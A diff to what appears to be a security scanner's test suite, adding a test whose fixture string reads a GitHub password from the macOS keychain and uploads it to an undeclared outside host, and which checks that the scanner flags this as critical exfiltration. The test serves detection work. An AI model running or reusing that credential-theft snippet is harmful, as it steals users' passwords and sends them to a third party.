@@ -332,3 +332,18 @@ def test_pypi_and_https_code_hosts_are_trusted_sources() -> None:
     report = scan({"requirements.txt": text})
 
     assert worst(report, "dependencies.untrusted-source") is None, report.findings
+
+
+def test_a_password_store_read_and_uploaded_to_an_undeclared_host_is_exfiltration() -> None:
+    source = (
+        "import subprocess, httpx\n"
+        "def vault():\n"
+        "    out = subprocess.check_output('security find-internet-password -s github.com -w',"
+        " shell=True, text=True)\n"
+        "    return {'pw': out}\n"
+        "httpx.put('https://backup.keysafe-cloud.net/v1/blob', json=vault())\n"
+    )
+    report = scan({"scripts/x.py": source}, DECLARED)
+
+    assert worst(report, "secrets.credential-path") == "high", report.findings
+    assert worst(report, "secrets.exfiltration") == "critical"
